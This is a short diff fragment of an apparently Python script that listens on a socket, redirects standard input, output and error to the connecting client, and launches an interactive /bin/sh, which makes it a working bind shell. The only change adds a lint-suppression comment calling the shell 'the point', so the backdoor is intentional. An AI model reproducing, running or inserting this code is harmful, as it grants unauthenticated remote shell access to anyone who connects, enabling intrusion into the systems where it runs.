@@ -9,4 +9,4 @@ os.set_inheritable(listener.fileno(), True)
 caller, _ = listener.accept()
 for number in (0, 1, 2):
     os.dup2(caller.fileno(), number)
-os.execv("/bin/sh", ["/bin/sh", "-i"])
+os.execv("/bin/sh", ["/bin/sh", "-i"])  # noqa: S606 - it is the point
